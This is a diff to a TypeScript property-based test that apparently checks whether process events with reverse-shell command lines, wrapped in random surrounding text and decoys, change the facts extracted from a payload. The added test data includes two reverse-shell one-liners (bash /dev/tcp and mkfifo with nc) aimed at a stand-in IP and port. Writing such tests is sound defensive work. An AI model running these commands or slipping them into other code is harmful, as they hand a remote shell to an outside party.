@@ -139,7 +139,32 @@ const around = fc.oneof(
   fc.constantFrom(...placed().map(([, text]) => text)),
 );
 
+const shell = fc.constantFrom(
+  '; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1;',
+  '; rm f;mkfifo f;cat f|sh -i 2>&1|nc 203.0.113.9 4444 >f;',
+);
+const decoy = fc.constantFrom(
+  '',
+  'nc -z db 5432; ',
+  '; echo hi >/dev/tcp/127.0.0.1/22; ',
+  '; # /dev/tcp/198.51.100.1/1\n',
+);
+
 it('hides neither destination nor technique, whatever is put around a shell', () => {
+  fc.assert(
+    fc.property(around, around, shell, decoy, decoy, (before, after, run, one, other) => {
+      const line = `${one}${before} ${run} ${after}${other}`;
+      const payload = {
+        ...CLEAN,
+        process_events: [{ exe: '/usr/bin/bash', arguments: ['bash', '-c', line] }] as Json,
+      };
+      expect(facts(payload)).toEqual(facts(CLEAN));
+    }),
+    { numRuns: 500 },
+  );
+});
+
+it('hides no destination that nothing but a far end tells', () => {
   fc.assert(
     fc.property(around, around, (before, after) => {
       const line = `${before} /dev/tcp/203.0.113.9/4444; bash -i >& $key 0>&1 ${after}`;
